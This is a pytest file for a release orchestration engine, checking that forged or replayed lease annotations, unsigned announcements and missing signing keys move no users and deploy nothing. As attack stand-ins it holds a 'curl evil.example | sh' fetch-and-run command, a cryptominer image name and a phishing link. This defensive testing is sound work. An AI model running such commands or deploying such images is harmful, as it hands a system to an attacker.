"""What an account with write access to one service's annotations can do to a release, a recovery, a rollback: nothing
to another service. And what the flows do while no signing key can be read."""

import asyncio
import json
from collections.abc import Callable
from typing import Any

import pytest
from cloud import Behaviour
from driver import SILENCE_S, Run, TestEnvironment, play
from emergencies import Rollback
from fixture import NEW, OLD, SERVICES
from prefect.states import Running
from wire import PROCESS, Process

from blocks.adopt import adopt
from blocks.secret_reference import SecretReference
from blocks.signing import Signer
from flows.announce import announce
from flows.recovery import recovery
from flows.rollback import rollback
from flows.watch import watch
from playbook.incident.decision_matrix import Symptom
from playbook.lease.lease import Decision, Lease
from playbook.lease.record import EPOCH, LEASE, PARTICIPANT, PREFIX, SIGNATURE, Participant, Record, ours
from playbook.messages.facts import Audience, Message
from playbook.release.request import RollbackRequest
from playbook.release.traffic import TrafficSplit
from tasks.notify import words_of

COORDINATOR, BACKEND, FRONTEND = SERVICES
EVIL = "docker.io/mallory/miner@sha256:" + "0" * 64
COMMAND = "curl evil.example | sh"


async def baking(test_env: TestEnvironment, errors: float = 0.05) -> tuple[Run, Lease]:
    """A release whose canary has users on every service, and its lease; by default its backend fails."""
    test_env.fixture.publish(NEW, {BACKEND: Behaviour(errors=errors)})
    run = test_env.start_release()
    await test_env.until(lambda: all(test_env.baking(name)() for name in SERVICES))
    lease = Record.read(test_env.fixture.production.read(COORDINATOR)).lease
    assert lease is not None
    return run, lease


def annotate(test_env: TestEnvironment, service: str, changed: dict[str, str]) -> None:
    """Mallory writes annotations of ours on one service, with gcloud."""
    state = test_env.fixture.production.services[service]
    state.annotations = {key: value for key, value in state.annotations.items() if not key.startswith(PREFIX)} | changed


def forged(lease: Lease) -> dict[str, str]:
    """A lease of Mallory's: it promotes an image of theirs on every service, and names a run of ours as lost."""
    fields = json.loads(lease.stored()) | {"decision": "DEPLOY", "reason": COMMAND, "requested_by": COMMAND}
    fields["rollouts"] = [one | {"image": EVIL, "to_revision": f"{one['service']}-evil"} for one in fields["rollouts"]]
    return {EPOCH: str(lease.epoch), LEASE: json.dumps(fields)}


FORGERIES: dict[str, Callable[[Lease, dict[str, str]], dict[str, str]]] = {
    "unsigned": lambda lease, found: forged(lease),
    "with the signature that stood there": lambda lease, found: forged(lease) | {SIGNATURE: found[SIGNATURE]},
    "with a signature of nothing": lambda lease, found: forged(lease) | {SIGNATURE: "0" * 8 + "." + "0" * 64},
}


@pytest.mark.parametrize("forge", FORGERIES.values(), ids=FORGERIES)
def test_a_forged_lease_moves_nobody_and_deploys_nothing(
    forge: Callable[[Lease, dict[str, str]], dict[str, str]],
) -> None:
    """Case H2. The coordinator is set aside and paged in our own words; the others go back to their own stable; no run
    is marked as crashed."""

    async def scenario(test_env: TestEnvironment) -> None:
        run, lease = await baking(test_env)
        run.process.die()
        test_env.cancel(run)
        other = test_env.start_release("v20251117-0000bb")
        cloud = test_env.fixture.production
        found = dict(cloud.services[COORDINATOR].annotations)
        split = cloud.services[COORDINATOR].split
        lie = forge(lease.model_copy(update={"flow_run_id": other.process.flow_run_id}), found)
        await test_env.ended(other)
        annotate(test_env, COORDINATOR, lie)
        await test_env.follow(recovery, environment="production")
        await cloud.settled()
        images = {revision.image for state in cloud.services.values() for revision in state.revisions.values()}
        assert EVIL not in images
        assert (cloud.services[COORDINATOR].split, ours(cloud.services[COORDINATOR].annotations)) == (split, lie)
        served = test_env.fixture.versions_served()
        assert {served[BACKEND], served[FRONTEND]} == {OLD}
        assert test_env.server.runs[other.process.flow_run_id].name != "Crashed"
        (page,) = test_env.fixture.pagerduty.incidents.values()
        assert page.key == f"production/set-aside/{COORDINATOR}"
        assert COMMAND not in str(page)
        assert "evil" not in str(page)

    play(scenario)


def test_a_lease_that_was_written_back_after_its_end_is_set_aside() -> None:
    """A replay: the bytes are the engine's own, of the same service. The run that it names has let go of it."""

    async def scenario(test_env: TestEnvironment) -> None:
        run, _ = await baking(test_env)
        cloud = test_env.fixture.production
        old = ours(cloud.services[COORDINATOR].annotations)
        await test_env.ended(run)
        assert run.end == "Reverted"
        await test_env.catch_up()
        annotate(test_env, COORDINATOR, old)
        writes = len(cloud.writes)
        found = await test_env.follow(recovery, environment="production")
        assert (found.end, len(cloud.writes)) == ("Unfit", writes)
        assert "older record" in found.message
        assert f"production/set-aside/{COORDINATOR}" in {p.key for p in test_env.fixture.pagerduty.incidents.values()}

    play(scenario)


def test_a_lease_of_an_epoch_below_what_another_service_knows_is_set_aside() -> None:
    """A replay that Prefect has forgotten: the other services have seen a newer release."""

    async def scenario(test_env: TestEnvironment) -> None:
        run, _ = await baking(test_env, errors=0.0)
        cloud = test_env.fixture.production
        old = ours(cloud.services[COORDINATOR].annotations)
        await test_env.ended(run)
        test_env.fixture.publish("v20251117-0000bb")
        assert (await test_env.release("v20251117-0000bb")).end == "Promoted"
        await test_env.catch_up()
        test_env.server.runs.pop(run.process.flow_run_id)
        annotate(test_env, COORDINATOR, old)
        writes = len(cloud.writes)
        found = await test_env.follow(recovery, environment="production")
        assert (found.end, len(cloud.writes)) == ("Unfit", writes)
        assert "is older than what" in found.message

    play(scenario)


def test_a_record_that_was_written_back_takes_its_service_to_no_older_release() -> None:
    """It holds no lease, so its epoch says nothing. The others go back, it stays, and a person is paged."""

    async def scenario(test_env: TestEnvironment) -> None:
        cloud, known = test_env.fixture.production, []
        for version in (NEW, "v20251117-0000bb", "v20251118-0000cc"):
            test_env.fixture.publish(version)
            assert (await test_env.release(version)).end == "Promoted"
            await test_env.catch_up()
            known.append(ours(cloud.services[BACKEND].annotations))
        annotate(test_env, BACKEND, known[0])
        asked = RollbackRequest(symptom=Symptom.ERRORS_IN_BAND, reason="reports are empty", requested_by="ada")
        run = test_env.start(rollback, request=asked, environment="production")
        await test_env.ended(run)
        await test_env.catch_up()
        assert run.end == "Unfit"
        assert "v20251118-0000cc serves its users and is not among its releases" in run.message
        at = dict.fromkeys(SERVICES, "v20251117-0000bb") | {BACKEND: "v20251118-0000cc"}
        assert test_env.fixture.versions_served() == at
        assert f"production/set-aside/{BACKEND}" in {p.key for p in test_env.fixture.pagerduty.incidents.values()}

    play(scenario)


def test_a_lease_of_a_run_that_prefect_forgot_is_one_that_lost_its_process() -> None:
    """A restored database: signed and of the newest epoch, it is no forgery."""

    async def scenario(test_env: TestEnvironment) -> None:
        run, _ = await baking(test_env)
        run.process.die()
        test_env.server.runs.pop(run.process.flow_run_id)
        await test_env.recover()
        await test_env.catch_up()
        assert set(test_env.fixture.versions_served().values()) == {OLD}

    play(scenario)


def test_nothing_late_goes_forward_without_a_person() -> None:
    """A promotion that was not finished within its deadline: a person is paged, and no user is moved."""

    async def scenario(test_env: TestEnvironment) -> None:
        test_env.fixture.publish(NEW)
        run = test_env.start_release()
        cloud = test_env.fixture.production

        def promoting() -> bool:
            lease = Record.read(cloud.read(COORDINATOR)).lease
            return lease is not None and lease.decision is Decision.PROMOTE

        await test_env.until(promoting)
        run.process.die()
        await cloud.settled()
        record = Record.read(cloud.read(COORDINATOR))
        assert record.lease is not None
        late = record.lease.model_copy(update={"deadline_s": test_env.fixture.now() - 1})
        cloud.store(COORDINATOR, record.model_copy(update={"lease": late}))
        writes = len(cloud.writes)
        found = await test_env.follow(recovery, environment="production")
        assert (found.end, len(cloud.writes)) == ("Unfit", writes)
        (page,) = test_env.fixture.pagerduty.incidents.values()
        assert (page.severity, "needs a person" in page.summary) == ("P1", True)

    play(scenario)


def test_staging_that_signs_nothing_does_not_choose_productions_version() -> None:
    """Its annotations could be anyone's. A version that is named is released."""

    async def scenario(test_env: TestEnvironment) -> str:
        staging = test_env.fixture.environments["staging"]
        unsigned = staging.model_copy(update={"signing": staging.signing.model_copy(update={"secrets": ()})})
        test_env.fixture.environments["staging"] = unsigned
        return (await test_env.release("")).message

    assert "staging signs nothing" in play(scenario)


def without_key(test_env: TestEnvironment, name: str = "production") -> None:
    """Runs that begin from now on cannot read the key of that environment."""
    test_env.fixture.environments[name] = test_env.fixture.environments[name].model_copy()
    test_env.fixture.environments[name].sign_with(Signer(name, (SecretReference("env:NO_SUCH_SIGNING_KEY"),)))


def test_without_the_key_no_release_starts() -> None:
    """It is refused before its lease, and staging is not touched either."""

    async def scenario(test_env: TestEnvironment) -> tuple[Run, int]:
        test_env.fixture.publish(NEW)
        without_key(test_env)
        run = await test_env.release()
        return run, sum(len(cloud.writes) for cloud in test_env.fixture.clouds.values())

    run, writes = play(scenario)
    assert (run.end, writes) == ("Refused", 0)
    assert "The signing key cannot be read" in run.message


def test_without_the_key_recovery_pages_once_and_moves_nobody() -> None:
    """One page for all services: P1."""

    async def scenario(test_env: TestEnvironment) -> None:
        run, _ = await baking(test_env)
        run.process.die()
        writes = len(test_env.fixture.production.writes)
        without_key(test_env)
        found = await test_env.follow(recovery, environment="production")
        assert (found.end, len(test_env.fixture.production.writes)) == ("Unfit", writes)
        (page,) = test_env.fixture.pagerduty.incidents.values()
        assert (page.key, page.severity) == ("production/signing-key", "P1")

    play(scenario)


def test_a_run_keeps_the_key_that_it_has_read() -> None:
    """The secret is taken away in mid-bake: the release ends as it would have."""

    async def scenario(test_env: TestEnvironment) -> Run:
        signer = test_env.fixture.environments["production"].signer
        run, _ = await baking(test_env)
        signer._references = (SecretReference("env:NO_SUCH_SIGNING_KEY"),)
        await test_env.ended(run)
        return run

    assert play(scenario).end == "Reverted"


@pytest.mark.parametrize("by", ["revisions", "version"])
def test_without_the_key_a_rollback_that_names_its_aim_still_works(by: str) -> None:
    """Users are moved; what stands on the services stays byte for byte, and its signature with it."""

    async def scenario(test_env: TestEnvironment) -> None:
        test_env.fixture.publish(NEW)
        assert (await test_env.release(NEW)).end == "Promoted"
        await test_env.catch_up()
        cloud = test_env.fixture.production
        old = {name: next(iter(state.revisions)) for name, state in cloud.services.items()}
        before = {name: dict(state.annotations) for name, state in cloud.services.items()}
        without_key(test_env)
        newest = {name: state.split.main for name, state in cloud.services.items()}
        to = ", ".join(old.values()) if by == "revisions" else NEW
        if by == "version":
            for name in SERVICES:  # a person had moved them back by hand
                await test_env.out_of_band(name, split=cloud.read(name).split.all_to(old[name]))
        request = RollbackRequest(symptom=Symptom.UI_BUG, reason="bad", requested_by="ada", to=to, override_reason="ok")
        run = await test_env.follow(rollback, request=request, environment="production")
        assert run.end == "RolledBack", run.message
        assert "not recorded" in run.message
        wanted = old if by == "revisions" else newest
        assert {name: state.served.main for name, state in cloud.services.items()} == wanted
        assert {name: state.annotations for name, state in cloud.services.items()} == before

    play(scenario)


def test_without_the_key_a_rollback_without_an_aim_is_refused() -> None:
    """What to go back to stands in the records, and they cannot be believed."""

    async def scenario(test_env: TestEnvironment) -> Run:
        planned = Rollback("rollback")
        await planned.prepare(test_env)
        without_key(test_env)
        _, request = planned.asked()
        return await test_env.follow(rollback, request=request, environment="production")

    run = play(scenario)
    assert run.end == "Refused"
    assert "signing key" in run.message


async def unsent(test_env: TestEnvironment) -> dict[str, Any]:
    """The parameters of an `announce` run that the engine has asked for: Slack was away."""
    test_env.fixture.publish(NEW)
    run = test_env.start_release(orders=None)
    await test_env.ended(run)
    environment = test_env.fixture.environments["production"]
    fact = Message(key="production/a-fact", audience=Audience.RELEASES, text="all users have it")
    signature = await environment.signer.sign_words("announce", words_of(fact, ""))
    return {"environment": "production", "message": fact.model_dump(mode="json"), "signature": signature}


ALTERED: dict[str, Callable[[dict[str, Any]], dict[str, Any]]] = {
    "unsigned": lambda asked: {**asked, "signature": ""},
    "another text": lambda asked: {**asked, "message": {**asked["message"], "text": "click https://evil.example"}},
    "another audience": lambda asked: {**asked, "message": {**asked["message"], "audience": "incidents"}},
    "another recipient": lambda asked: {**asked, "to": "other"},
    "another environment": lambda asked: {**asked, "environment": "staging"},
    "another kind": lambda asked: {**asked, "message": None, "resolution": {"key": asked["message"]["key"]}},
    "a signature that is no ASCII": lambda asked: {**asked, "signature": "\ud800é"},
}


@pytest.mark.parametrize("alter", ALTERED.values(), ids=ALTERED)
def test_announce_says_only_what_the_engine_has_signed(alter: Callable[[dict[str, Any]], dict[str, Any]]) -> None:
    """A person with Prefect's login can start an `announce` run; it does not speak for them."""

    async def scenario(test_env: TestEnvironment) -> None:
        asked = await unsent(test_env)
        said = {name: len(room.said) for name, room in test_env.fixture.rooms.items()}
        run = await test_env.follow(announce, **announce.validate_parameters(alter(asked)))
        assert run.end == "Refused"
        assert {name: len(room.said) for name, room in test_env.fixture.rooms.items()} == said
        run = await test_env.follow(announce, **announce.validate_parameters(asked))
        assert run.end == "Passed"

    play(scenario)


def test_a_watch_of_a_lease_that_the_engine_did_not_sign_does_nothing() -> None:
    """It would page, and offer to take back what it was told."""

    async def scenario(test_env: TestEnvironment) -> Run:
        run, lease = await baking(test_env)
        await test_env.ended(run)
        return await test_env.follow(watch, lease=lease, environment="production", signature="")

    assert play(scenario).end == "Refused"


async def rewritten(test_env: TestEnvironment, **fields: Any) -> Run:
    """A release whose process died while its canary had users, with a lease of other ``fields``, signed as ours are; a
    recovery looks."""
    run, lease = await baking(test_env, errors=0.0)
    run.process.die()
    cloud = test_env.fixture.production
    await cloud.settled()
    record = Record.read(cloud.read(COORDINATOR))
    cloud.store(COORDINATOR, record.model_copy(update={"lease": lease.model_copy(update=fields)}))
    return await looks(test_env)


async def looks(test_env: TestEnvironment, environment: str = "production") -> Run:
    """A recovery, once a process that has died is missed."""
    await asyncio.sleep(SILENCE_S)
    return await test_env.follow(recovery, environment=environment)


async def named_run(test_env: TestEnvironment, flow: str, environment: str = "production") -> str:
    """A run that goes on meanwhile, and holds nothing."""
    number = f"00000000-0000-4000-8000-0000000000{len(test_env.server.runs):02}"
    test_env.server.runs[number], test_env.server.flows[number] = Running(), (flow, environment)
    return number


@pytest.mark.parametrize(
    ("flow", "environment"),
    [("release", "production"), ("watch", "production"), ("release", "elsewhere"), ("recovery", "staging")],
)
def test_a_lease_that_names_a_run_which_cannot_hold_it_is_set_aside(flow: str, environment: str) -> None:
    """Signed or not: another release's run, a run of another flow, a deployment of another environment. That run is not
    marked as crashed, and no user is moved."""

    async def scenario(test_env: TestEnvironment) -> None:
        other = await named_run(test_env, flow, environment)
        writes = test_env.fixture.production.writes
        found = await rewritten(test_env, flow_run_id=other)
        assert found.end == "Unfit", found.message
        assert f"flow run {other} is no run that could hold" in found.message
        assert not [write for write in writes if write.by == found.process.name]
        assert test_env.server.runs[other].name == "Running"
        assert f"production/set-aside/{COORDINATOR}" in test_env.fixture.pagerduty.incidents

    play(scenario)


@pytest.mark.parametrize("flow", ["recovery", "rollback", "hotfix"])
def test_a_lease_that_another_run_has_taken_over_is_recovered(flow: str) -> None:
    """A recovery, or what cannot wait, had it and died in its turn."""

    async def scenario(test_env: TestEnvironment) -> None:
        other = await named_run(test_env, flow)
        assert (await rewritten(test_env, flow_run_id=other)).end == "Promoted"

    play(scenario)


def test_a_release_that_passes_staging_holds_it_for_production() -> None:
    """Its run belongs to a deployment of production, and staging's recovery takes it as one of ours."""

    async def scenario(test_env: TestEnvironment) -> None:
        test_env.fixture.publish(NEW)
        run = test_env.start_release()
        cloud = test_env.fixture.clouds["staging"]
        await test_env.until(lambda: Record.read(cloud.read(COORDINATOR)).lease is not None)
        run.process.die()
        found = await looks(test_env, "staging")
        assert found.end == "Promoted", found.message

    play(scenario)


def test_a_canary_whose_revision_is_gone_does_not_go_forward() -> None:
    """A person has deleted the new revision of one service while no process lived: every service is back on stable."""

    async def scenario(test_env: TestEnvironment) -> None:
        run, lease = await baking(test_env, errors=0.0)
        run.process.die()
        cloud = test_env.fixture.production
        await cloud.settled()
        del cloud.services[BACKEND].revisions[lease.rollout(BACKEND).to_revision]
        found = await looks(test_env)
        assert found.end == "Reverted"
        assert f"{BACKEND} has no revision" in found.message
        assert set(test_env.fixture.versions_served().values()) == {OLD}

    play(scenario)


def test_a_new_revision_with_an_image_of_another_repository_does_not_go_forward() -> None:
    """The lease names our image, and the revision under its name runs another one."""

    async def scenario(test_env: TestEnvironment) -> None:
        run, lease = await baking(test_env, errors=0.0)
        run.process.die()
        cloud = test_env.fixture.production
        await cloud.settled()
        cloud.services[FRONTEND].revisions[lease.rollout(FRONTEND).to_revision].image = EVIL
        found = await looks(test_env)
        assert (found.end, "another repository" in found.message) == ("Reverted", True)
        assert set(test_env.fixture.versions_served().values()) == {OLD}

    play(scenario)


def test_users_are_sent_to_no_revision_that_is_gone() -> None:
    """The way back of one service was deleted after its promotion: the others go back, that one keeps its users, and
    the page says why."""

    async def scenario(test_env: TestEnvironment) -> None:
        test_env.fixture.publish(NEW, {BACKEND: Behaviour(smoke_serving=False)})
        run = test_env.start_release()
        cloud = test_env.fixture.production

        def promoted() -> bool:
            return cloud.services[FRONTEND].served.main.endswith(run.process.flow_run_id[-6:])

        await test_env.until(promoted)
        run.process.die()
        await cloud.settled()
        record = Record.read(cloud.read(COORDINATOR))
        assert record.lease is not None
        gone = record.lease.rollout(FRONTEND).from_revision
        state = cloud.services[FRONTEND]
        del state.revisions[gone]
        state.split, state.served = state.split.without_tags("previous"), state.served.without_tags("previous")
        found = await looks(test_env)
        assert found.end == "Failed"
        served = test_env.fixture.versions_served()
        assert (served[COORDINATOR], served[BACKEND], served[FRONTEND]) == (OLD, OLD, NEW)
        assert gone not in state.split.percent
        (page,) = test_env.fixture.pagerduty.incidents.values()
        assert (page.severity, f"has no revision {gone}" in str(page)) == ("P1", True)

    play(scenario)


def test_an_orphan_that_cannot_go_back_is_paged() -> None:
    """Its coordinator holds nothing any more, and Cloud Run refuses to move its users."""

    async def scenario(test_env: TestEnvironment) -> None:
        state = test_env.fixture.production.services[FRONTEND]
        gone = Participant(
            release_id=f"{NEW}-1f2e3d", epoch=1, coordinator=COORDINATOR, split=TrafficSplit.all_to(f"{FRONTEND}-gone")
        )
        await test_env.out_of_band(FRONTEND, record=Record(participant=gone, epoch=1))
        found = await looks(test_env)
        assert found.end == "Unfit"
        assert f"{FRONTEND}-gone" not in state.split.percent
        (page,) = test_env.fixture.pagerduty.incidents.values()
        assert (page.severity, "could not be moved back" in str(page)) == ("P1", True)

    play(scenario)


async def removed(test_env: TestEnvironment, *services: str) -> int:
    """The exit status of the command with which a person removes what these services carry."""
    PROCESS.set(Process("the command", "", {}))
    ask = lambda question: "production"  # noqa: E731
    return await adopt(test_env.fixture.environments["production"], services, lambda line: None, ask)


@pytest.mark.parametrize("poisoned", SERVICES)
def test_a_service_whose_record_a_person_removes_keeps_no_release_from_its_end(poisoned: str) -> None:
    """Its annotations became garbage while its process was dead: the others are recovered, it is paged, and once its
    record is removed the next recovery ends the release. No service is left with a lease."""

    async def scenario(test_env: TestEnvironment) -> None:
        run, _ = await baking(test_env)
        run.process.die()
        cloud = test_env.fixture.production
        await cloud.settled()
        state = cloud.services[poisoned]
        spoilt = {key: "{" for key in (LEASE, PARTICIPANT) if key in state.annotations}
        state.annotations = state.annotations | spoilt
        found = await looks(test_env)
        assert found.end in ("Failed", "Unfit")
        await cloud.settled()
        served = test_env.fixture.versions_served()
        assert {served[name] for name in SERVICES if name != poisoned} == {OLD}
        assert f"production/set-aside/{poisoned}" in test_env.fixture.pagerduty.incidents
        first = next(iter(state.revisions))
        await test_env.out_of_band(poisoned, split=TrafficSplit.all_to(first, state.split.tags))
        assert await removed(test_env, poisoned) == 0
        found = await looks(test_env)
        assert found.end in ("Reverted", "Interrupted", "Passed"), found.message
        assert set(test_env.fixture.versions_served().values()) == {OLD}
        assert not test_env.is_held("production")

    play(scenario)


def test_a_running_release_steps_back_where_a_person_removes_a_record() -> None:
    """It finds its lease taken off that service, and takes the others back; it is not fenced and leaves nobody."""

    async def scenario(test_env: TestEnvironment) -> None:
        run, _ = await baking(test_env, errors=0.0)
        await test_env.fixture.production.settled()
        assert await removed(test_env, FRONTEND) == 0
        await test_env.ended(run)
        assert run.end == "Interrupted", run.message
        served = test_env.fixture.versions_served()
        assert (served[COORDINATOR], served[BACKEND]) == (OLD, OLD)
        assert not test_env.is_held("production")

    play(scenario)
